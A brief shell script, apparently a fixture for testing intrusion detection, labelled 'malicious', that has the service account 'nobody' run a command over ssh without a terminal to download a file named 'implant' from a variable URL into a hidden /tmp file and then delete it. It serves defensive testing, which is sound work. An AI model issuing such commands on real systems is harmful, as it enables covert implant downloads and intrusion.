#!/bin/sh
# malicious: the nobody account runs commands over ssh without a tty (ssh host CMD): a download
. "$(dirname "$0")/../../lib.sh"
ssh_cmd nobody "curl -s -o /tmp/.n $URL/implant; rm -f /tmp/.n"
